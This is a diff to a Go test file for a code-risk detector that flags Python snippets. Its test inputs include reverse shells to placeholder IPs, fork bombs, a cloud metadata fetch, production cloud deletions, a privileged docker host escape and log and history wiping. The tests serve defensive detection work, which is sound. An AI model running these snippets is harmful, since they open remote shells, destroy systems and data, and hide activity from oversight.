@@ -385,7 +385,14 @@ func TestNetwork(t *testing.T) {
 		{"plain post", "import httpx\nhttpx.put('https://api.example.com/v1/x', json={'a': 1})", []check{has(RuleNetworkSend, risk.High)}},
 		{"request method", "import requests\nrequests.request('DELETE', 'https://api.example.com/v1/x/1')", []check{has(RuleNetworkSend, risk.High)}},
 		{"unknown client", "client.post('https://api.example.com/items', json=item)", []check{has(RuleNetworkSend, risk.High)}},
-		{"post to localhost", "import requests\nrequests.post('http://localhost:8000/api/items', json={'name': 'x'})", []check{has(RuleNetworkSend, risk.Medium), atMost(risk.Medium)}},
+		{"post to localhost", "import requests\nrequests.post('http://localhost:8000/api/items', json={'name': 'x'})", []check{has(RuleNetworkSend, risk.Medium), atMost(risk.Medium),
+			func(c *tool.Call, _ []risk.Finding) error {
+				if len(c.URLs) > 0 {
+					return fmt.Errorf("loopback URLs are not for URL analysis: %q", c.URLs)
+				}
+				return nil
+			}}},
+		{"metadata", "import requests\nr = requests.get('http://169.254.169.254/latest/meta-data/')", []check{fetches("http://169.254.169.254/latest/meta-data/")}},
 		{"post to unknown host", "import requests\nrequests.post(url, data=payload)", []check{has(RuleNetworkSend, risk.High)}},
 		{"get", "import requests\nr = requests.get('https://api.github.com/repos/x/y')\nprint(r.json())",
 			[]check{has(RuleNetworkRead, risk.Low), atMost(risk.Low), fetches("https://api.github.com/repos/x/y")}},
@@ -410,6 +417,12 @@ func TestCodeExecution(t *testing.T) {
 		{"fork bomb in a function", "import os\ndef boom():\n    while True:\n        os.fork()\nboom()", []check{has(RuleForkBomb, risk.Critical)}},
 		{"fork loop that can exit", "import os\nwhile True:\n    pid = os.fork()\n    if pid == 0:\n        break", []check{has(RuleForkBomb, risk.High)}},
 		{"bounded forks", "import os\nfor i in range(4):\n    os.fork()", []check{lacks(RuleForkBomb)}},
+		{"many forks", "import os\nfor i in range(100):\n    os.fork()", []check{has(RuleForkBomb, risk.Critical)}},
+		{"process flood", "import multiprocessing\ndef burn():\n    while True: pass\nfor _ in range(10000):\n    multiprocessing.Process(target=burn).start()",
+			[]check{has(RuleForkBomb, risk.High)}},
+		{"popen without end", "import subprocess, sys\nwhile True:\n    subprocess.Popen([sys.executable, __file__])", []check{has(RuleForkBomb, risk.High)}},
+		{"waiting in a loop is fine", "import subprocess, time\nwhile True:\n    subprocess.run(['make'])\n    time.sleep(60)", []check{lacks(RuleForkBomb)}},
+		{"a few workers", "import multiprocessing\nps = [multiprocessing.Process(target=f) for _ in range(4)]", []check{lacks(RuleForkBomb)}},
 		{"reverse shell", "import socket, subprocess, os\ns = socket.socket()\ns.connect(('203.0.113.50', 4444))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\nsubprocess.call(['/bin/sh', '-i'])",
 			[]check{has(RuleReverseShell, risk.Critical)}},
 		{"reverse shell via stdio", "import socket, subprocess\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect(('203.0.113.5', 9001))\nsubprocess.call(['/bin/bash'], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())",
@@ -534,5 +547,37 @@ func TestBounds(t *testing.T) {
 	c = py(strings.Repeat("if x:\n", 1) + strings.Repeat(" ", 1) + "pass\n" + strings.Repeat("[", 100000))
 	if fs := prepare(t, c); len(fs) == 0 || fs[0].Rule != RuleUnparsable {
 		t.Errorf("unclosed brackets: %v", fs)
+	}
+}
+
+func TestSDKs(t *testing.T) {
+	runCodeTests(t, []codeTest{
+		{"boto3 rds", "import boto3\nrds = boto3.client('rds', region_name='us-east-1')\nrds.delete_db_instance(DBInstanceIdentifier='prod-main', SkipFinalSnapshot=True)",
+			[]check{runs("aws rds delete-db-instance --db-instance-identifier prod-main --skip-final-snapshot"), has(RuleCloudDelete, risk.High)}},
+		{"boto3 ec2", "import boto3\nec2 = boto3.client('ec2')\nec2.terminate_instances(InstanceIds=['i-1', 'i-2'])",
+			[]check{runs("aws ec2 terminate-instances --instance-ids i-1 i-2"), has(RuleCloudDelete, risk.High)}},
+		{"boto3 session", "import boto3\nboto3.Session(profile_name='prod').client('s3').delete_bucket(Bucket='acme')", []check{runs("aws s3api delete-bucket --bucket acme")}},
+		{"boto3 read", "import boto3\nfor b in boto3.client('s3').list_buckets()['Buckets']:\n    print(b['Name'])", []check{runs("aws s3api list-buckets"), atMost(risk.Low)}},
+		{"s3 resource", "import boto3\nbucket = boto3.resource('s3').Bucket('acme-prod-backups')\nbucket.objects.all().delete()",
+			[]check{runs("aws s3 rm s3://acme-prod-backups --recursive"), has(RuleCloudDelete, risk.High)}},
+		{"gcs", "from google.cloud import storage\nstorage.Client().bucket('acme-ml').delete(force=True)", []check{runs("gsutil rm -r gs://acme-ml"), has(RuleCloudDelete, risk.High)}},
+		{"docker", "import docker\ndocker.from_env().containers.run('alpine', 'chroot /host sh', privileged=True, volumes={'/': {'bind': '/host', 'mode': 'rw'}})",
+			[]check{runs("docker run --privileged -v /:/host alpine chroot /host sh")}},
+		{"kubernetes", "from kubernetes import client\nclient.CoreV1Api().delete_namespaced_pod('web-1', 'prod')",
+			[]check{runs("kubectl delete pod web-1 -n prod"), has(RuleCloudDelete, risk.High)}},
+		{"history", "import os\nopen(os.path.expanduser('~/.bash_history'), 'w').close()", []check{has(RuleTamper, risk.High)}},
+		{"logs", "import glob\nfor f in glob.glob('/var/log/*.log'):\n    open(f, 'w').close()", []check{has(RuleTamper, risk.High)}},
+		{"history read is fine", "print(open('/home/user/.bash_history').read()[-100:])", []check{nothing()}},
+	})
+}
+
+func TestKebab(t *testing.T) {
+	for in, want := range map[string]string{
+		"DBInstanceIdentifier": "db-instance-identifier", "InstanceIds": "instance-ids", "delete_db_instance": "delete-db-instance",
+		"Bucket": "bucket", "SSEKMSKeyId": "ssekms-key-id", "MaxResults": "max-results",
+	} {
+		if got := kebab(in); got != want {
+			t.Errorf("kebab(%q) = %q, want %q", in, got, want)
+		}
 	}
 }
